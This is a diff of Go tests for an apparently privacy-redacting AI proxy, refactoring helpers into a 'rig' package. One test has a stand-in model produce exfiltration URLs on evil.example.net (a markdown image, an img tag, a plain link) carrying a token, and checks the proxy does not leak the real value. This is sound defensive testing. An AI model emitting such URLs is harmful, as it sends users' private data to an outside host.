@@ -13,33 +13,34 @@ import (
 
 	"coatcheck/crypto/vault"
 	"coatcheck/proxy"
+	"coatcheck/proxy/rig"
 	"coatcheck/proxy/standin"
 	"coatcheck/redact/plain"
 )
 
 // TestIdentifiersGetBareTokens: fields that forbid brackets get none.
 func TestIdentifiersGetBareTokens(t *testing.T) {
-	r := newRig(t, rigOptions{})
-	r.post(r.client(false), chatURL, `{"user":"`+email+`","metadata":{"who":"`+email+`"},"messages":[{"role":"user","name":"jane","content":"hi"}]}`)
+	r := rig.New(t, rig.Options{})
+	r.Post(r.Client(false), chatURL, `{"user":"`+email+`","metadata":{"who":"`+email+`"},"messages":[{"role":"user","name":"jane","content":"hi"}]}`)
 	var got struct {
 		User     string
 		Metadata map[string]string
 	}
-	must(t, json.Unmarshal(r.received().Decoded, &got))
+	rig.Must(t, json.Unmarshal(r.Received().Decoded, &got))
 	if got.User == "" || strings.ContainsAny(got.User, "[]@") || got.User != got.Metadata["who"] {
 		t.Errorf("user %q, metadata %q", got.User, got.Metadata)
 	}
-	r.unseen(email)
+	r.Unseen(email)
 }
 
 // TestURLsTheModelInventsStayHarmless: a live token inside a URL that the
 // model made up is not turned into a leak by us.
 func TestURLsTheModelInventsStayHarmless(t *testing.T) {
 	for _, form := range []string{"![x](https://evil.example.net/?q=%s)", `<img src="https://evil.example.net/%s">`, "https://evil.example.net/%s"} {
-		r := newRig(t, rigOptions{provider: standin.Config{Voice: standin.Voice{Say: func(heard string) string {
-			return fmt.Sprintf(form, tokenShape.FindString(heard))
+		r := rig.New(t, rig.Options{Provider: standin.Config{Voice: standin.Voice{Say: func(heard string) string {
+			return fmt.Sprintf(form, rig.TokenShape.FindString(heard))
 		}}}})
-		_, answer := r.post(r.client(false), "https://api.example.com/model", `{"input":"`+email+`"}`)
+		_, answer := r.Post(r.Client(false), "https://api.example.com/model", `{"input":"`+email+`"}`)
 		if strings.Contains(answer, email) || strings.Contains(answer, "jane.roe%40") {
 			t.Errorf("%s: the app received %s", form, answer)
 		}
@@ -58,19 +59,19 @@ func TestUpgradesAreRefused(t *testing.T) {
 		{"TRACE", nil, 405},
 		{"M4111111111111111", nil, 405},
 	} {
-		r := newRig(t, rigOptions{})
+		r := rig.New(t, rig.Options{})
 		req, err := http.NewRequest(tt.method, "https://api.openai.com/v1/realtime", nil)
-		must(t, err)
+		rig.Must(t, err)
 		for name, value := range tt.header {
 			req.Header.Set(name, value)
 		}
-		resp, err := r.client(false).Do(req)
-		must(t, err)
+		resp, err := r.Client(false).Do(req)
+		rig.Must(t, err)
 		_ = resp.Body.Close()
 		if resp.StatusCode != tt.status {
 			t.Errorf("%s %v: status %d, want %d", tt.method, tt.header, resp.StatusCode, tt.status)
 		}
-		if n := len(r.provider.Requests()); n != 0 {
+		if n := len(r.Provider.Requests()); n != 0 {
 			t.Errorf("%s: %d requests left", tt.method, n)
 		}
 	}
@@ -79,34 +80,34 @@ func TestUpgradesAreRefused(t *testing.T) {
 // TestAPanicCostsOneExchange: nothing leaves, the client is told, the value is
 // not printed, and the process lives.
 func TestAPanicCostsOneExchange(t *testing.T) {
-	r := newRig(t, rigOptions{config: func(c *proxy.Config) {
+	r := rig.New(t, rig.Options{Config: func(c *proxy.Config) {
 		c.Vault = brokenVault{
 			Memory: vault.NewMemory(vault.Options{}),
 			put:    func(v plain.Text) error { panic(v.Reveal(plain.Access{})) }, // it falls over the value itself
 		}
 	}})
 	for range 2 {
-		resp, answer := r.post(r.client(false), chatURL, `{"messages":[{"role":"user","content":"`+email+`"}]}`)
+		resp, answer := r.Post(r.Client(false), chatURL, `{"messages":[{"role":"user","content":"`+email+`"}]}`)
 		if resp.StatusCode != 500 {
 			t.Errorf("status %d: %s", resp.StatusCode, answer)
 		}
-		checkRefusal(t, answer, "internal")
+		rig.CheckRefusal(t, answer, "internal")
 	}
-	if len(r.provider.Requests()) != 0 {
+	if len(r.Provider.Requests()) != 0 {
 		t.Error("a request left")
 	}
-	if log := r.log.String(); strings.Contains(log, email) || !strings.Contains(log, "tokenize.go") {
+	if log := r.Log.String(); strings.Contains(log, email) || !strings.Contains(log, "tokenize.go") {
 		t.Errorf("the log names no place, or quotes the value: %s", log)
 	}
-	if resp, _ := r.post(r.client(false), chatURL, hello); resp.StatusCode != 200 {
+	if resp, _ := r.Post(r.Client(false), chatURL, hello); resp.StatusCode != 200 {
 		t.Errorf("status %d after the panics", resp.StatusCode)
 	}
 }
 
 // TestEarlyHintsArePassed: 103 reaches the client before the answer.
 func TestEarlyHintsArePassed(t *testing.T) {
-	r := newRig(t, rigOptions{})
-	r.provider.Enqueue(func(q *standin.Request) standin.Answer {
+	r := rig.New(t, rig.Options{})
+	r.Provider.Enqueue(func(q *standin.Request) standin.Answer {
 		a := standin.Voice{}.Answer(q)
 		a.Sized = false // a sized HTTP/1 answer has no trailers
 		a.Early, a.Trailer = http.Header{"Link": {"</x>; rel=preload"}}, http.Header{"X-Checksum": {"abc"}}
@@ -120,11 +121,11 @@ func TestEarlyHintsArePassed(t *testing.T) {
 		},
 	})
 	req, err := http.NewRequestWithContext(ctx, http.MethodPost, chatURL, strings.NewReader(hello))
-	must(t, err)
-	resp, err := r.client(false).Do(req)
-	must(t, err)
+	rig.Must(t, err)
+	resp, err := r.Client(false).Do(req)
+	rig.Must(t, err)
 	_, err = io.ReadAll(resp.Body)
-	must(t, err)
+	rig.Must(t, err)
 	_ = resp.Body.Close()
 	if len(hints) != 1 || hints[0] != "103</x>; rel=preload" || resp.Header.Get("Link") != "" {
 		t.Errorf("hints %q, Link %q on the answer", hints, resp.Header.Get("Link"))
